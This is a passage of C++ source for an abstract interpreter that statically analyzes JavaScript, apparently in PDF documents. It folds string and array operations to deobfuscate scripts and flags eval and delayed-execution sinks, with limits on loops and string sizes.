        return Flow::kNormal;
      case StmtKind::kVarDecl:
        for (const js::VarDeclarator& d : s.decls) {
          bind(d.name, d.init ? eval(*d.init) : AV::of(Value()));
        }
        return Flow::kNormal;
      case StmtKind::kFunctionDecl:
        bind(s.function->name, AV::top());
        register_function(*s.function);
        return Flow::kNormal;
      case StmtKind::kIf: {
        const AV c = eval(*s.expr);
        const std::optional<bool> b = to_boolean(c);
        if (b && poisoned_ == 0) {
          // Constant condition: execute the live branch precisely, walk the
          // dead branch poisoned (its sinks/indicators still count —
          // statically dead is not dynamically proven for the attacker's
          // other deployments, and indicators must see all code).
          if (*b) {
            const Flow f = exec(*s.body.front());
            if (s.alt) {
              PoisonGuard guard(*this);
              exec(*s.alt);
            }
            return f;
          }
          {
            PoisonGuard guard(*this);
            exec(*s.body.front());
          }
          return s.alt ? exec(*s.alt) : Flow::kNormal;
        }
        PoisonGuard guard(*this);
        exec(*s.body.front());
        if (s.alt) exec(*s.alt);
        return Flow::kNormal;
      }
      case StmtKind::kWhile:
        return exec_loop(s, /*do_while=*/false);
      case StmtKind::kDoWhile:
        return exec_loop(s, /*do_while=*/true);
      case StmtKind::kFor:
        return exec_for(s);
      case StmtKind::kForIn: {
        eval(*s.expr);
        ++loop_depth_;
        poison_region_targets(s);
        bind(s.for_in_var, AV::top());
        {
          PoisonGuard guard(*this);
          exec(*s.body.front());
        }
        --loop_depth_;
        return Flow::kNormal;
      }
      case StmtKind::kReturn:
        if (s.expr) eval(*s.expr);
        return poisoned_ > 0 ? Flow::kNormal : Flow::kReturn;
      case StmtKind::kBreak:
        return poisoned_ > 0 ? Flow::kNormal : Flow::kBreak;
      case StmtKind::kContinue:
        return poisoned_ > 0 ? Flow::kNormal : Flow::kContinue;
      case StmtKind::kBlock:
        return exec_block(s.body);
      case StmtKind::kThrow:
        eval(*s.expr);
        // An uncaught throw aborts the script; nothing later executes.
        return poisoned_ > 0 ? Flow::kNormal : Flow::kReturn;
      case StmtKind::kTry: {
        // Exceptions may cut the try body anywhere, so the whole construct
        // is analyzed with poisoned writes (in walk order: suffix-skipping
        // can only make our bindings over-approximate).
        PoisonGuard guard(*this);
        for (const js::StmtPtr& b : s.body) {
          if (b) exec(*b);
        }
        if (s.has_catch) {
          if (!s.catch_param.empty()) bind(s.catch_param, AV::top());
          for (const js::StmtPtr& b : s.catch_body) {
            if (b) exec(*b);
          }
        }
        if (s.has_finally) {
          for (const js::StmtPtr& b : s.finally_body) {
            if (b) exec(*b);
          }
        }
        return Flow::kNormal;
      }
      case StmtKind::kSwitch: {
        eval(*s.expr);
        PoisonGuard guard(*this);
        for (const js::SwitchCase& c : s.cases) {
          if (c.test) eval(*c.test);
          for (const js::StmtPtr& b : c.body) {
            if (b) exec(*b);
          }
        }
        return Flow::kNormal;
      }
    }
    return Flow::kNormal;
  }

  Flow exec_block(const std::vector<js::StmtPtr>& body) {
    for (const js::StmtPtr& s : body) {
      if (!s) continue;
      const Flow f = exec(*s);
      if (f != Flow::kNormal) return f;
    }
    return Flow::kNormal;
  }

  /// Gives up on precise loop execution: the body may run any number of
  /// further times, so every target it can write becomes unknown before a
  /// single poisoned walk (which still surfaces sinks and indicators).
  void bail_loop(const Stmt& s) {
    poison_region_targets(s);
    if (s.kind == StmtKind::kFor) {
      if (s.expr2) poison_region_targets(*s.expr2);
      if (s.expr3) poison_region_targets(*s.expr3);
    }
    PoisonGuard guard(*this);
    if (s.kind == StmtKind::kFor) {
      if (s.expr2) eval(*s.expr2);
    } else {
      eval(*s.expr);
    }
    exec(*s.body.front());
    if (s.kind == StmtKind::kFor && s.expr3) eval(*s.expr3);
  }

  Flow exec_loop(const Stmt& s, bool do_while) {
    ++loop_depth_;
    if (poisoned_ > 0) {
      bail_loop(s);
      --loop_depth_;
      return Flow::kNormal;
    }
    std::size_t iterations = 0;
    bool skip_condition = do_while;
    while (true) {
      if (!skip_condition) {
        const std::optional<bool> b = to_boolean(eval(*s.expr));
        if (!b) {
          bail_loop(s);
          break;
        }
        if (!*b) break;
      }
      skip_condition = false;
      if (++iterations > caps_.max_loop_iterations) {
        rep_.truncated = true;
        bail_loop(s);
        break;
      }
      const Flow f = exec(*s.body.front());
      if (f == Flow::kBreak) break;
      if (f == Flow::kReturn) {
        --loop_depth_;
        return Flow::kReturn;
      }
    }
    --loop_depth_;
    return Flow::kNormal;
  }

  Flow exec_for(const Stmt& s) {
    if (s.init) {
      const Flow f = exec(*s.init);
      if (f != Flow::kNormal) return f;
    }
    ++loop_depth_;
    if (poisoned_ > 0) {
      bail_loop(s);
      --loop_depth_;
      return Flow::kNormal;
    }
    std::size_t iterations = 0;
    while (true) {
      if (s.expr2) {
        const std::optional<bool> b = to_boolean(eval(*s.expr2));
        if (!b) {
          bail_loop(s);
          break;
        }
        if (!*b) break;
      }
      if (++iterations > caps_.max_loop_iterations) {
        rep_.truncated = true;
        bail_loop(s);
        break;
      }
      const Flow f = exec(*s.body.front());
      if (f == Flow::kBreak) break;
      if (f == Flow::kReturn) {
        --loop_depth_;
        return Flow::kReturn;
      }
      // The step runs after `continue` too, matching the interpreter.
      if (s.expr3) eval(*s.expr3);
    }
    --loop_depth_;
    return Flow::kNormal;
  }

  // -- expressions ----------------------------------------------------------

  AV eval(const Expr& e) {
    visit();
    switch (e.kind) {
      case ExprKind::kNumber:
        return AV::of(Value(e.number));
      case ExprKind::kString:
        return AV::of(Value(e.string_value));  // noted by the syntactic pass
      case ExprKind::kBool:
        return AV::of(Value(e.bool_value));
      case ExprKind::kNull:
        return AV::of(Value(js::Null{}));
      case ExprKind::kUndefined:
        return AV::of(Value());
      case ExprKind::kIdentifier:
        return lookup(e.string_value);
      case ExprKind::kThis:
        return AV::top();
      case ExprKind::kArrayLiteral: {
        auto arr = std::make_shared<ArrayState>();
        arr->elems.reserve(e.args.size());
        for (const js::ExprPtr& el : e.args) {
          arr->elems.push_back(el ? eval(*el) : AV::of(Value()));
        }
        return AV::of_array(std::move(arr));
      }
      case ExprKind::kObjectLiteral:
        for (const js::ObjectProperty& p : e.props) {
          if (p.value) eval(*p.value);
        }
        return AV::top();  // plain objects are not modelled
      case ExprKind::kFunction:
        if (e.function) register_function(*e.function);
        return AV::top();
      case ExprKind::kMember:
        return eval_member(e);
      case ExprKind::kCall:
        return eval_call(e);
      case ExprKind::kNew:
        if (e.a) eval(*e.a);
        for (const js::ExprPtr& a : e.args) {
          if (a) poison_if_array(eval(*a));
        }
        poison_function_effects();  // `new F()` can run a user constructor
        return AV::top();
      case ExprKind::kUnary:
        return eval_unary(e);
      case ExprKind::kUpdate:
        return eval_update(e);
      case ExprKind::kBinary: {
        const AV l = eval(*e.a);
        const AV r = eval(*e.b);
        return eval_binary(e.op, l, r);
      }
      case ExprKind::kLogical: {
        const AV l = eval(*e.a);
        const std::optional<bool> lb = to_boolean(l);
        if (lb) {
          // Short-circuit exactly like the runtime: the untaken side is
          // never evaluated (so it has no side effects there either).
          if (e.op == "&&") return *lb ? eval(*e.b) : l;
          return *lb ? l : eval(*e.b);
        }
        PoisonGuard guard(*this);  // the rhs *may* run
        eval(*e.b);
        return AV::top();
      }
      case ExprKind::kConditional: {
        const AV c = eval(*e.a);
        const std::optional<bool> cb = to_boolean(c);
        if (cb && poisoned_ == 0) {
          const Expr& live = *cb ? *e.b : *e.c;
          const Expr& dead = *cb ? *e.c : *e.b;
          const AV result = eval(live);
          {
            PoisonGuard guard(*this);
            eval(dead);
          }
          return result;
        }
        PoisonGuard guard(*this);
        eval(*e.b);
        eval(*e.c);
        return AV::top();
      }
      case ExprKind::kAssign:
        return eval_assign(e);
      case ExprKind::kComma:
        eval(*e.a);
        return eval(*e.b);
    }
    return AV::top();
  }

  AV eval_unary(const Expr& e) {
    if (e.op == "typeof") {
      // typeof never throws; mirror eval_unary's special identifier case.
      const AV v = e.a->kind == ExprKind::kIdentifier
                       ? lookup(e.a->string_value)
                       : eval(*e.a);
      if (v.is_top()) {
        // A miss for us is "unknown", not "undeclared": host globals exist
        // at runtime, so the runtime answer is unknowable here.
        return AV::top();
      }
      if (v.is_array()) return AV::of(Value("object"));
      if (v.is_builtin()) return AV::of(Value("function"));
      const Value& s = v.scalar;
      if (s.is_undefined()) return AV::of(Value("undefined"));
      if (s.is_null()) return AV::of(Value("object"));
      if (s.is_bool()) return AV::of(Value("boolean"));
      if (s.is_number()) return AV::of(Value("number"));
      if (s.is_string()) return AV::of(Value("string"));
      return AV::top();
    }
    const AV v = eval(*e.a);
    if (e.op == "void") return AV::of(Value());
    if (e.op == "delete") return AV::top();
    if (e.op == "!") {
      const std::optional<bool> b = to_boolean(v);
      return b ? AV::of(Value(!*b)) : AV::top();
    }
    const std::optional<double> n = to_number(v);
    if (!n) return AV::top();
    if (e.op == "-") return AV::of(Value(-*n));
    if (e.op == "+") return AV::of(Value(*n));
    if (e.op == "~") {
      return AV::of(Value(static_cast<double>(~to_int32(*n))));
    }
    return AV::top();
  }

  AV eval_update(const Expr& e) {
    const Expr& target = *e.a;
    if (target.kind == ExprKind::kIdentifier) {
      const AV old = lookup(target.string_value);
      const std::optional<double> n = to_number(old);
      if (!n) {
        bind(target.string_value, AV::top());
        return AV::top();
      }
      const double next = e.op == "++" ? *n + 1 : *n - 1;
      bind(target.string_value, AV::of(Value(next)));
      return AV::of(Value(e.prefix ? next : *n));
    }
    if (target.kind == ExprKind::kMember) {
      // Updates through members mutate the container: degrade it.
      if (target.a) poison_if_array(eval(*target.a));
      if (target.computed_member && target.b) eval(*target.b);
    }
    return AV::top();
  }

  void poison_if_array(const AV& v) {
    if (v.is_array()) v.array->poisoned = true;
  }

  AV eval_binary(const std::string& op, const AV& l, const AV& r) {
    if (op == "+") {
      const bool string_concat = l.is_string() || r.is_string() ||
                                 l.is_array() || r.is_array() ||
                                 l.is_builtin() || r.is_builtin();
      if (string_concat) {
        const std::optional<std::string> ls = to_string(l);
        const std::optional<std::string> rs = to_string(r);
        if (!ls || !rs) return AV::top();
        if (ls->size() + rs->size() > caps_.max_string_bytes) {
          rep_.truncated = true;  // refuse to materialize oversize strings
          return AV::top();
        }
        return fold_string(*ls + *rs);
      }
      if (l.is_top() || r.is_top()) return AV::top();
      const std::optional<double> ln = to_number(l);
      const std::optional<double> rn = to_number(r);
      if (!ln || !rn) return AV::top();
      return AV::of(Value(*ln + *rn));
    }
    if (op == "==" || op == "!=") {
      const std::optional<bool> eq = loose_equals(l, r);
      if (!eq) return AV::top();
      return AV::of(Value(op == "==" ? *eq : !*eq));
    }
    if (op == "===" || op == "!==") {
      const std::optional<bool> eq = strict_equals(l, r);
      if (!eq) return AV::top();
      return AV::of(Value(op == "===" ? *eq : !*eq));
    }
    if (op == "<" || op == ">" || op == "<=" || op == ">=") {
      if (l.is_string() && r.is_string()) {
        const int c = l.scalar.as_string().compare(r.scalar.as_string());
        if (op == "<") return AV::of(Value(c < 0));
        if (op == ">") return AV::of(Value(c > 0));
        if (op == "<=") return AV::of(Value(c <= 0));
        return AV::of(Value(c >= 0));
      }
      if (l.is_top() || r.is_top()) return AV::top();
      const std::optional<double> ln = to_number(l);
      const std::optional<double> rn = to_number(r);
      if (!ln || !rn) return AV::top();
      // NaN comparisons are false, as in the runtime's double compares.
      if (op == "<") return AV::of(Value(*ln < *rn));
      if (op == ">") return AV::of(Value(*ln > *rn));
      if (op == "<=") return AV::of(Value(*ln <= *rn));
      return AV::of(Value(*ln >= *rn));
    }
    if (op == "in" || op == "instanceof") {
      if (op == "in" && r.is_array() && !r.array->poisoned) {
        const std::optional<std::string> key = to_string(l);
        if (!key) return AV::top();
        const std::optional<long> idx = numeric_key(*key);
        const bool present = idx && *idx >= 0 &&
                             static_cast<std::size_t>(*idx) <
                                 r.array->elems.size();
        return AV::of(Value(present));
      }
      if (r.is_scalar()) return AV::of(Value(false));  // non-object rhs
      return AV::top();
    }
    const std::optional<double> ln = to_number(l);
    const std::optional<double> rn = to_number(r);
    if (!ln || !rn) return AV::top();
    if (op == "-") return AV::of(Value(*ln - *rn));
    if (op == "*") return AV::of(Value(*ln * *rn));
    if (op == "/") return AV::of(Value(*ln / *rn));
    if (op == "%") return AV::of(Value(std::fmod(*ln, *rn)));
    if (op == "&") {
      return AV::of(Value(static_cast<double>(to_int32(*ln) & to_int32(*rn))));
    }
    if (op == "|") {
      return AV::of(Value(static_cast<double>(to_int32(*ln) | to_int32(*rn))));
    }
    if (op == "^") {
      return AV::of(Value(static_cast<double>(to_int32(*ln) ^ to_int32(*rn))));
    }
    if (op == "<<") {
      return AV::of(
          Value(static_cast<double>(to_int32(*ln) << (to_int32(*rn) & 31))));
    }
    if (op == ">>") {
      return AV::of(
          Value(static_cast<double>(to_int32(*ln) >> (to_int32(*rn) & 31))));
    }
    if (op == ">>>") {
      return AV::of(
          Value(static_cast<double>(to_uint32(*ln) >> (to_int32(*rn) & 31))));
    }
    return AV::top();
  }

  AV eval_assign(const Expr& e) {
    const AV rhs = eval(*e.b);
    const Expr& target = *e.a;
    AV result = rhs;
    if (e.op != "=") {
      const std::string op = e.op.substr(0, e.op.size() - 1);
      AV old = AV::top();
      if (target.kind == ExprKind::kIdentifier) {
        old = lookup(target.string_value);
      } else if (target.kind == ExprKind::kMember) {
        old = eval_member(target);
      }
      result = eval_binary(op, old, rhs);
    }
    if (target.kind == ExprKind::kIdentifier) {
      bind(target.string_value, result);
      return result;
    }
    if (target.kind == ExprKind::kMember) {
      assign_member(target, result);
      return result;
    }
    return AV::top();
  }

  void assign_member(const Expr& target, const AV& v) {
    if (!target.a) return;
    const AV base = eval(*target.a);
    std::optional<std::string> key;
    if (target.computed_member) {
      const AV k = target.b ? eval(*target.b) : AV::top();
      key = to_string(k);
    } else {
      key = target.string_value;
    }
    if (!base.is_array()) return;  // primitive/unknown props: untracked
    if (poisoned_ > 0 || !key || base.array->poisoned) {
      base.array->poisoned = true;
      return;
    }
    // Mirror Interpreter::assign_member's array path.
    auto& elems = base.array->elems;
    if (*key == "length") {
      const std::optional<double> n = to_number(v);
      if (!n || std::isnan(*n) || *n < 0 ||
          *n > static_cast<double>(caps_.max_loop_iterations)) {
        base.array->poisoned = true;  // resize we refuse to materialize
        rep_.truncated = true;
        return;
      }
      elems.resize(static_cast<std::size_t>(*n));
      return;
    }
    const std::optional<long> idx = numeric_key(*key);
    if (idx && *idx >= 0) {
      if (static_cast<std::size_t>(*idx) > elems.size() &&
          static_cast<std::size_t>(*idx) - elems.size() >
              caps_.max_loop_iterations) {
        base.array->poisoned = true;  // sparse blowup guard
        rep_.truncated = true;
        return;
      }
      if (static_cast<std::size_t>(*idx) >= elems.size()) {
        elems.resize(static_cast<std::size_t>(*idx) + 1);
      }
      elems[static_cast<std::size_t>(*idx)] = v;
      return;
    }
    base.array->poisoned = true;  // named property on an array
  }

  AV eval_member(const Expr& e) {
    if (!e.a) return AV::top();
    const AV base = eval(*e.a);
    std::optional<std::string> key;
    if (e.computed_member) {
      const AV k = e.b ? eval(*e.b) : AV::top();
      key = to_string(k);
    } else {
      key = e.string_value;
    }
    if (!key) return AV::top();
    if (base.is_string()) {
      const std::string& s = base.scalar.as_string();
      if (*key == "length") {
        return AV::of(Value(static_cast<double>(s.size())));
      }
      const std::optional<long> idx = numeric_key(*key);
      if (idx) {
        if (*idx >= 0 && static_cast<std::size_t>(*idx) < s.size()) {
          return AV::of(
              Value(std::string(1, s[static_cast<std::size_t>(*idx)])));
        }
        return AV::of(Value());
      }
      return AV::top();  // a method read as a value
    }
    if (base.is_array()) {
      if (base.array->poisoned) return AV::top();
      if (*key == "length") {
        return AV::of(Value(static_cast<double>(base.array->elems.size())));
      }
      const std::optional<long> idx = numeric_key(*key);
      if (idx) {
        if (*idx >= 0 &&
            static_cast<std::size_t>(*idx) < base.array->elems.size()) {
          return base.array->elems[static_cast<std::size_t>(*idx)];
        }
        return AV::of(Value());
      }
      return AV::top();  // a method read as a value
    }
    if (base.is_builtin()) {
      // Builtin namespaces: Math.floor / String.fromCharCode read as values.
      return AV::of_builtin(base.builtin + "." + *key);
    }
    return AV::top();
  }

  // -- calls ----------------------------------------------------------------

  AV eval_call(const Expr& e) {
    const Expr& callee = *e.a;

    // Member sinks and member method folds need the base value.
    if (callee.kind == ExprKind::kMember && !callee.computed_member) {
      const AV base = callee.a ? eval(*callee.a) : AV::top();
      return dispatch_member_call(e, callee, base);
    }

    if (callee.kind == ExprKind::kIdentifier) {
      const AV fn = lookup(callee.string_value);
      if (fn.is_builtin()) {
        return dispatch_builtin_call(e, fn.builtin);
      }
      return unknown_call(e);
    }

    if (callee.kind == ExprKind::kMember && callee.computed_member) {
      const AV fn = eval_member(callee);
      if (fn.is_builtin()) return dispatch_builtin_call(e, fn.builtin);
      return unknown_call(e);
    }

    const AV fn = eval(callee);
    if (fn.is_builtin()) return dispatch_builtin_call(e, fn.builtin);
    return unknown_call(e);
  }

  std::vector<AV> eval_args(const Expr& e) {
    std::vector<AV> args;
    args.reserve(e.args.size());
    for (const js::ExprPtr& a : e.args) {
      args.push_back(a ? eval(*a) : AV::of(Value()));
    }
    return args;
  }

  /// A call whose target we cannot model: the result is unknown, array
  /// arguments may be mutated, and any user function may run (poisoning
  /// everything functions write).
  AV unknown_call(const Expr& e) {
    for (const js::ExprPtr& a : e.args) {
      if (a) poison_if_array(eval(*a));
    }
    poison_function_effects();
    return AV::top();
  }

  AV dispatch_member_call(const Expr& e, const Expr& callee, const AV& base) {
    const std::string& method = callee.string_value;

    // Delayed-execution sinks keyed on the method name: app.setTimeOut,
    // app.setInterval (payload = arg 0), Doc.addScript (payload = arg 1).
    // The receivers are host objects (Top for us), so match by name.
    if (base.is_top() &&
        (method == "setTimeOut" || method == "setInterval" ||
         method == "addScript")) {
      const std::vector<AV> args = eval_args(e);
      const std::size_t payload_index = method == "addScript" ? 1 : 0;
      const AV payload = payload_index < args.size() ? args[payload_index]
                                                     : AV::of(Value());
      for (const AV& a : args) poison_if_array(a);
      return sink_delayed(method.c_str(), e.offset, payload);
    }

    if (base.is_string()) return string_method_call(e, base, method);
    if (base.is_array()) return array_method_call(e, base, method);
    if (base.is_builtin()) {
      return dispatch_builtin_call(e, base.builtin + "." + method);
    }
    return unknown_call(e);
  }

  AV dispatch_builtin_call(const Expr& e, const std::string& name) {
    if (name == "eval") {
      const std::vector<AV> args = eval_args(e);
      const AV arg = args.empty() ? AV::of(Value()) : args[0];
      for (const AV& a : args) poison_if_array(a);
      return sink_eval(e.offset, arg);
    }

    const std::vector<AV> args = eval_args(e);
    auto arg = [&](std::size_t i) {
      return i < args.size() ? args[i] : AV::of(Value());
    };
    auto arg_str = [&](std::size_t i) { return to_string(arg(i)); };
    auto arg_num = [&](std::size_t i) { return to_number(arg(i)); };

    if (name == "unescape") {
      const std::optional<std::string> s = arg_str(0);
      return s ? fold_string(js::unescape_string(*s)) : AV::top();
    }
    if (name == "escape") {
      const std::optional<std::string> s = arg_str(0);
      if (!s) return AV::top();
      if (s->size() * 3 > caps_.max_string_bytes) {
        rep_.truncated = true;
        return AV::top();
      }
      return fold_string(js::escape_string(*s));
    }
    if (name == "String") {
      if (args.empty()) return fold_string("");
      const std::optional<std::string> s = arg_str(0);
      return s ? fold_string(*s) : AV::top();
    }
    if (name == "String.fromCharCode") {
      std::string out;
      out.reserve(args.size());
      for (const AV& a : args) {
        const std::optional<double> n = to_number(a);
        if (!n) return AV::top();
        js::append_char_code(out, static_cast<int>(*n));
      }
      return fold_string(std::move(out));
    }
    if (name == "Number") {
      if (args.empty()) return AV::of(Value(0.0));
      const std::optional<double> n = arg_num(0);
      return n ? AV::of(Value(*n)) : AV::top();
    }
    if (name == "Boolean") {
      if (args.empty()) return AV::of(Value(false));
      const std::optional<bool> b = to_boolean(arg(0));
      return b ? AV::of(Value(*b)) : AV::top();
    }
    if (name == "isNaN") {
      const std::optional<double> n = arg_num(0);
      return n ? AV::of(Value(std::isnan(*n))) : AV::top();
    }
    if (name == "parseInt") {
      const std::optional<std::string> s = arg_str(0);
      if (!s) return AV::top();
      // Mirror the builtin: explicit numeric radix wins, else 0x sniffing.
      int base = 10;
      if (args.size() > 1) {
        if (!arg(1).is_scalar()) return AV::top();
        if (arg(1).scalar.is_number()) {
          base = static_cast<int>(arg(1).scalar.as_number());
        } else if (s->size() > 2 && (*s)[0] == '0' &&
                   ((*s)[1] == 'x' || (*s)[1] == 'X')) {
          base = 16;
        }
      } else if (s->size() > 2 && (*s)[0] == '0' &&
                 ((*s)[1] == 'x' || (*s)[1] == 'X')) {
        base = 16;
      }
      char* end = nullptr;
      const long long v = std::strtoll(s->c_str(), &end, base);
      if (end == s->c_str()) return AV::of(Value(std::nan("")));
      return AV::of(Value(static_cast<double>(v)));
    }
    if (name == "parseFloat") {
      const std::optional<std::string> s = arg_str(0);
      if (!s) return AV::top();
      char* end = nullptr;
      const double v = std::strtod(s->c_str(), &end);
      if (end == s->c_str()) return AV::of(Value(std::nan("")));
      return AV::of(Value(v));
    }
    if (name == "Array") {
      if (args.size() == 1 && args[0].is_scalar() &&
          args[0].scalar.is_number()) {
        const double n = args[0].scalar.as_number();
        if (!(n >= 0) || n > static_cast<double>(caps_.max_loop_iterations)) {
          rep_.truncated = true;
          return AV::top();
        }
        auto arr = std::make_shared<ArrayState>();
        arr->elems.assign(static_cast<std::size_t>(n), AV::of(Value()));
        return AV::of_array(std::move(arr));
      }
      auto arr = std::make_shared<ArrayState>();
      arr->elems = args;
      return AV::of_array(std::move(arr));
    }
    if (name.rfind("Math.", 0) == 0) {
      return math_call(name.substr(5), args);
    }

    // An unrecognized builtin member (e.g. Math.tan): unknown but pure.
    for (const AV& a : args) poison_if_array(a);
    return AV::top();
  }

  AV math_call(const std::string& fn, const std::vector<AV>& args) {
    auto num = [&](std::size_t i) -> std::optional<double> {
      return i < args.size() ? to_number(args[i])
                             : std::optional<double>(std::nan(""));
    };
    if (fn == "random") return AV::top();  // seeded per-engine RNG
    if (fn == "floor" || fn == "ceil" || fn == "sqrt" || fn == "abs" ||
        fn == "round") {
      const std::optional<double> x = num(0);
      if (!x) return AV::top();
      if (fn == "floor") return AV::of(Value(std::floor(*x)));
      if (fn == "ceil") return AV::of(Value(std::ceil(*x)));
      if (fn == "sqrt") return AV::of(Value(std::sqrt(*x)));
      if (fn == "abs") return AV::of(Value(std::fabs(*x)));
      return AV::of(Value(std::floor(*x + 0.5)));
    }
    if (fn == "pow") {
      const std::optional<double> x = num(0);
      const std::optional<double> y = num(1);
      if (!x || !y) return AV::top();
      return AV::of(Value(std::pow(*x, *y)));
    }
    if (fn == "min" || fn == "max") {
      double best = fn == "min" ? HUGE_VAL : -HUGE_VAL;
      for (const AV& a : args) {
        const std::optional<double> n = to_number(a);
        if (!n) return AV::top();
        best = fn == "min" ? std::min(best, *n) : std::max(best, *n);
      }
      return AV::of(Value(best));
    }
    return AV::top();
  }

  AV string_method_call(const Expr& e, const AV& base,
                        const std::string& method) {
    const std::string& s = base.scalar.as_string();
    const std::vector<AV> args = eval_args(e);
    auto arg = [&](std::size_t i) {
      return i < args.size() ? args[i] : AV::of(Value());
    };
    auto arg_num = [&](std::size_t i) { return to_number(arg(i)); };
    auto arg_str = [&](std::size_t i) { return to_string(arg(i)); };

    if (method == "charAt") {
      const std::optional<double> n = arg_num(0);
      if (!n) return AV::top();
      const auto i = static_cast<std::int64_t>(*n);
      if (i < 0 || static_cast<std::size_t>(i) >= s.size()) {
        return fold_string("");
      }
      return fold_string(std::string(1, s[static_cast<std::size_t>(i)]));
    }
    if (method == "charCodeAt") {
      std::optional<double> n = arg_num(0);
      if (!n) return AV::top();
      double d = *n;
      if (std::isnan(d)) d = 0;
      const auto i = static_cast<std::int64_t>(d);
      if (i < 0 || static_cast<std::size_t>(i) >= s.size()) {
        return AV::of(Value(std::nan("")));
      }
      return AV::of(Value(static_cast<double>(
          static_cast<unsigned char>(s[static_cast<std::size_t>(i)]))));
    }
    if (method == "indexOf") {
      const std::optional<std::string> needle = arg_str(0);
      if (!needle) return AV::top();
      std::size_t from = 0;
      if (args.size() > 1) {
        const std::optional<double> f = to_number(args[1]);
        if (!f) return AV::top();
        from = static_cast<std::size_t>(std::max(0.0, *f));
      }
      const std::size_t pos = s.find(*needle, from);
      return AV::of(Value(pos == std::string::npos
                              ? -1.0
                              : static_cast<double>(pos)));
    }
    if (method == "lastIndexOf") {
      const std::optional<std::string> needle = arg_str(0);
      if (!needle) return AV::top();
      const std::size_t pos = s.rfind(*needle);
      return AV::of(Value(pos == std::string::npos
                              ? -1.0
                              : static_cast<double>(pos)));
    }
    if (method == "substring") {
      const std::optional<double> raw_a = arg_num(0);
      if (!raw_a) return AV::top();
      std::int64_t a = clamp_index(*raw_a, s.size());
      std::int64_t b = static_cast<std::int64_t>(s.size());
      if (args.size() > 1) {
        const std::optional<double> raw_b = to_number(args[1]);
        if (!raw_b) return AV::top();
        b = clamp_index(*raw_b, s.size());
        if (*raw_b < 0) b = 0;
      }
      if (*raw_a < 0) a = 0;
      if (a > b) std::swap(a, b);
      return fold_string(s.substr(static_cast<std::size_t>(a),
                                  static_cast<std::size_t>(b - a)));
    }
    if (method == "substr") {
      const std::optional<double> raw_a = arg_num(0);
      if (!raw_a) return AV::top();
      const std::int64_t a = clamp_index(*raw_a, s.size());
      std::size_t len = s.size() - static_cast<std::size_t>(a);
      if (args.size() > 1) {
        const std::optional<double> want = to_number(args[1]);
        if (!want) return AV::top();
        if (*want < 0) {
          len = 0;
        } else {
          len = std::min<std::size_t>(len, static_cast<std::size_t>(*want));
        }
      }
      return fold_string(s.substr(static_cast<std::size_t>(a), len));
    }
    if (method == "slice") {
      const std::optional<double> raw_a = arg_num(0);
      if (!raw_a) return AV::top();
      const std::int64_t a = clamp_index(*raw_a, s.size());
      std::int64_t b = static_cast<std::int64_t>(s.size());
      if (args.size() > 1) {
        const std::optional<double> raw_b = to_number(args[1]);
        if (!raw_b) return AV::top();
        b = clamp_index(*raw_b, s.size());
      }
      if (a >= b) return fold_string("");
      return fold_string(s.substr(static_cast<std::size_t>(a),
                                  static_cast<std::size_t>(b - a)));
    }
    if (method == "split") {
      auto arr = std::make_shared<ArrayState>();
      if (args.empty() ||
          (args[0].is_scalar() && args[0].scalar.is_undefined())) {
        arr->elems.push_back(AV::of(Value(s)));
        return AV::of_array(std::move(arr));
      }
      const std::optional<std::string> sep = arg_str(0);
      if (!sep) return AV::top();
      if (sep->empty()) {
        if (s.size() > caps_.max_loop_iterations) {
          rep_.truncated = true;
          return AV::top();
        }
        for (const char c : s) {
          arr->elems.push_back(AV::of(Value(std::string(1, c))));
        }
        return AV::of_array(std::move(arr));
      }
      std::size_t start = 0;
      while (true) {
        const std::size_t pos = s.find(*sep, start);
        if (pos == std::string::npos) {
          arr->elems.push_back(AV::of(Value(s.substr(start))));
          break;
        }
        arr->elems.push_back(AV::of(Value(s.substr(start, pos - start))));
        start = pos + sep->size();
      }
      return AV::of_array(std::move(arr));
    }
    if (method == "replace") {
      const std::optional<std::string> from = arg_str(0);
      const std::optional<std::string> to = arg_str(1);
      if (!from || !to) return AV::top();
      const std::size_t pos = s.find(*from);
      if (pos == std::string::npos || from->empty()) {
        return fold_string(std::string(s));
      }
      if (s.size() - from->size() + to->size() > caps_.max_string_bytes) {
        rep_.truncated = true;
        return AV::top();
      }
      std::string out = s;
      out.replace(pos, from->size(), *to);
      return fold_string(std::move(out));
    }
    if (method == "toUpperCase" || method == "toLowerCase") {
      const bool upper = method == "toUpperCase";
      std::string out = s;
      for (char& c : out) {
        c = upper
                ? static_cast<char>(std::toupper(static_cast<unsigned char>(c)))
                : static_cast<char>(
                      std::tolower(static_cast<unsigned char>(c)));
      }
      return fold_string(std::move(out));
    }
    if (method == "concat") {
      std::string out = s;
      for (const AV& a : args) {
        const std::optional<std::string> as = to_string(a);
        if (!as) return AV::top();
        if (out.size() + as->size() > caps_.max_string_bytes) {
          rep_.truncated = true;
          return AV::top();
        }
        out += *as;
      }
      return fold_string(std::move(out));
    }
    if (method == "toString" || method == "valueOf") {
      return fold_string(std::string(s));
    }
    // Unknown method on a string: calling `undefined` throws at runtime.
    return AV::top();
  }

  AV array_method_call(const Expr& e, const AV& base,
                       const std::string& method) {
    const ArrayPtr& arr = base.array;
    const std::vector<AV> args = eval_args(e);

    if (arr->poisoned) {
      if (is_array_mutator(method)) arr->poisoned = true;
      return AV::top();
    }
    if (method == "push") {
      for (const AV& a : args) arr->elems.push_back(a);
      return AV::of(Value(static_cast<double>(arr->elems.size())));
    }
    if (method == "pop") {
      if (arr->elems.empty()) return AV::of(Value());
      AV v = arr->elems.back();
      arr->elems.pop_back();
      return v;
    }
    if (method == "shift") {
      if (arr->elems.empty()) return AV::of(Value());
      AV v = arr->elems.front();
      arr->elems.erase(arr->elems.begin());
      return v;
    }
    if (method == "join") {
      std::string sep = ",";
      if (!args.empty() &&
          !(args[0].is_scalar() && args[0].scalar.is_undefined())) {
        const std::optional<std::string> ss = to_string(args[0]);
        if (!ss) return AV::top();
        sep = *ss;
      }
      std::string out;
      for (std::size_t i = 0; i < arr->elems.size(); ++i) {
        if (i) out += sep;
        const AV& el = arr->elems[i];
        if (el.is_scalar() && el.scalar.is_nullish()) continue;
        const std::optional<std::string> es = to_string(el);
        if (!es) return AV::top();
        if (out.size() + es->size() > caps_.max_string_bytes) {
          rep_.truncated = true;
          return AV::top();
        }
        out += *es;
      }
      return fold_string(std::move(out));
    }
    if (method == "concat") {
      auto out = std::make_shared<ArrayState>();
      out->elems = arr->elems;
      for (const AV& a : args) {
        if (a.is_array()) {
          if (a.array->poisoned) return AV::top();
          out->elems.insert(out->elems.end(), a.array->elems.begin(),
                            a.array->elems.end());
        } else {
          out->elems.push_back(a);
        }
      }
      return AV::of_array(std::move(out));
    }
    if (method == "slice") {
